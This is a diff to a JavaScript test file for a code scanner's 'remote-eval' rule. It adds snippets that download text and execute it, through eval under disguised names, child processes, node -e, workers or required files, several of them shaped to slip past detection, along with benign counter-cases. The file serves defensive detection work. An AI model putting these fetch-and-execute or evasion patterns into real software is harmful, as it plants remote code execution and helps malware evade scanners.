@@ -160,6 +160,43 @@ describe('remote-eval: downloaded text evaluated, linked to its download', () =>
   });
 });
 
+// Shapes docs/security.md once listed as not linked: an event named at run time, eval reached by
+// a computed member, code run through a child process or a worker, a path spelled two ways. A file
+// that downloads and reaches a computed name it cannot resolve counts it as evaluating (fail closed).
+describe('remote-eval: evaluations written around the links, with a download in the file', () => {
+  test.each([
+    ['chunks kept by a handler of an event whose name is joined from pieces', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.on(['da', 'ta'].join(''), (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ["chunks kept by a handler of an event named by a constant holding 'data'", "const https = require('https');\nconst ev = 'data';\nlet body = '';\nfunction handle(res) { res.on(ev, (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['eval reached through globalThis by a name held in a variable', "const name = process.argv[2] || pick();\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nglobalThis[name](loaded);"],
+    ['eval reached through self by a key the download itself names', "const res = await fetch(u);\nconst key = res.headers.get('x-run');\nconst loaded = await res.text();\n{{PAD}}\nself[key](loaded);"],
+    ['a computed member of global given to a name, then called', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nconst run = global[k];\n{{PAD}}\nrun(loaded);"],
+    ['the download written to a file, then run by node through exec', "const fs = require('fs'), cp = require('child_process');\nconst file = path.join(os.tmpdir(), 'p.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\ncp.exec('node ' + file);"],
+    ['the download written to a file, then spawned with process.execPath', "const fs = require('fs');\nconst { spawn } = require('child_process');\nconst file = path.join(os.tmpdir(), 'p.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nspawn(process.execPath, [file], { stdio: 'ignore' });"],
+    ['the response piped to a file, forked when it is written', "const https = require('https');\nconst target = path.join(os.tmpdir(), 'x.js');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(target)).on('finish', done); });\n{{PAD}}\nfunction done() { require('child_process').fork(target); }"],
+    ['the download handed to node -e', "const { execSync } = require('child_process');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nexecSync('node -e ' + JSON.stringify(loaded));"],
+    ['the download run by a worker made with eval: true', "const { Worker } = require('worker_threads');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nnew Worker(loaded, { eval: true });"],
+    ['the download written to a file, then run by a worker', "const { Worker } = require('worker_threads');\nconst file = path.join(__dirname, 'w.js');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nnew Worker(file);"],
+    ['a path written by path.join, required by concatenation', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.join(__dirname, 'x.js'), loaded);\n{{PAD}}\nrequire(__dirname + '/x.js');"],
+    ['a path written by a template, required by path.resolve', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(`${__dirname}/lib/x.js`, loaded);\n{{PAD}}\nrequire(path.resolve(__dirname, 'lib', 'x.js'));"],
+  ])('%s', (_name, code) => {
+    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
+  });
+
+  test.each([
+    ["a handler of an event named by a constant that is not 'data', its chunks evaluated", "const https = require('https');\nconst ev = 'progress';\nlet body = '';\nfunction handle(res) { res.on(ev, (n) => { body += n; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['a member of globalThis named by a constant that is not eval', "const name = 'structuredClone';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nglobalThis[name](loaded);"],
+    ['a computed member of window called on local text, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nwindow[handlerName](event.detail);"],
+    ['a binary downloaded to a file, then run by execFile (a prebuilt binary checked)', "const https = require('https');\nconst bin = path.join(__dirname, 'bin', 'tool');\nhttps.get(u, (r) => { r.pipe(fs.createWriteStream(bin)).on('finish', done); });\n{{PAD}}\nfunction done() { require('child_process').execFileSync(bin, ['--version']); }"],
+    ['an archive downloaded to a file, then unpacked by tar', "const loaded = Buffer.from(await (await fetch(u)).arrayBuffer());\nconst file = path.join(os.tmpdir(), 'x.tgz');\n{{PAD}}\nfs.writeFileSync(file, loaded);\n{{PAD}}\nrequire('child_process').execSync('tar xzf ' + file);"],
+    ['node run on a script of the package, the download elsewhere', "const cp = require('child_process');\nconst loaded = await (await fetch(u)).text();\nfs.writeFileSync(cache, loaded);\n{{PAD}}\ncp.execSync('node ' + path.join(__dirname, 'build.js'));"],
+    ['a worker on a file of the package, the download elsewhere', "const { Worker } = require('worker_threads');\nconst loaded = await (await fetch(u)).text();\nfs.writeFileSync(path.join(__dirname, 'cache.txt'), loaded);\n{{PAD}}\nnew Worker(path.join(__dirname, 'worker.js'));"],
+    ['a worker made with eval: true on code of its own', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nnew Worker('require(\"./w.js\")', { eval: true });"],
+  ])('%s', (_name, code) => {
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
+  });
+});
+
 describe('each rule at its edge (edits of real shapes)', () => {
   const recon = [
     "const os = require('os'); const https = require('https');",
